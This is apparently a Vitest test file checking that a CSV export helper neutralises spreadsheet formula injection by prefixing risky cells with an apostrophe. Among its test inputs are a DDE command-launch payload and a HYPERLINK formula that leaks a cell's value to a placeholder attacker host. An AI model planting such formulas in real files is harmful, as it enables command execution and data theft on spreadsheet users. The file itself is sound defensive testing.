import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../src/shared/csv';

/** One cell written as an export writes it (formulas neutralised), without the row's line end. */
const exported = (cell: string | number | null | undefined): string => toCsv([[cell]], { neutraliseFormulas: true }).slice(0, -2);

// The OWASP "CSV Injection" cases: a cell a spreadsheet would run as a formula starts with
// = + - @, or with a tab or carriage return; it is written with a leading apostrophe, so the
// spreadsheet shows it as text, and quoted where CSV needs quotes.
describe('CSV exports neutralise spreadsheet formulas', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])('%j is written as %j', (cell, written) => {
    expect(exported(cell)).toBe(written);
  });

  it('quotes a neutralised cell that holds a carriage return, a delimiter or quotes', () => {
    expect(exported('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(exported('=SUM(A1,A2)')).toBe(`"'=SUM(A1,A2)"`);
    expect(exported('=HYPERLINK("http://evil.example/?leak="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
  });

  it('leaves numbers as numbers, negative ones included, so the spreadsheet can sum them', () => {
    expect(exported(-1)).toBe('-1');
    expect(exported(-13.5)).toBe('-13.5');
    expect(exported(0)).toBe('0');
    expect(toCsv([['Change in 30 days'], [-4.5], [2]], { neutraliseFormulas: true })).toBe('Change in 30 days\r\n-4.5\r\n2\r\n');
  });

  it('treats text that looks like a negative number as text: it came from the data, not from a score', () => {
    expect(exported('-1')).toBe("'-1");
  });

  it('leaves ordinary text, empty cells and text with a formula character further in alone', () => {
    expect(exported('Harbor Logistics')).toBe('Harbor Logistics');
    expect(exported('a=b')).toBe('a=b');
    expect(exported('sam@example.com')).toBe('sam@example.com');
    expect(exported('')).toBe('');
    expect(exported(null)).toBe('');
    expect(exported(undefined)).toBe('');
  });

  it('neutralises every cell of every row, header included, and joins rows with CRLF', () => {
    expect(toCsv([['=Name', 'Owner'], ['+Acme', '@Sam']], { neutraliseFormulas: true })).toBe("'=Name,Owner\r\n'+Acme,'@Sam\r\n");
  });

  it('writes cells as they are when not asked to neutralise (files the app reads back)', () => {
    expect(toCsv([['=1+1', '-2', 'a,b']])).toBe('=1+1,-2,"a,b"\r\n');
  });
});
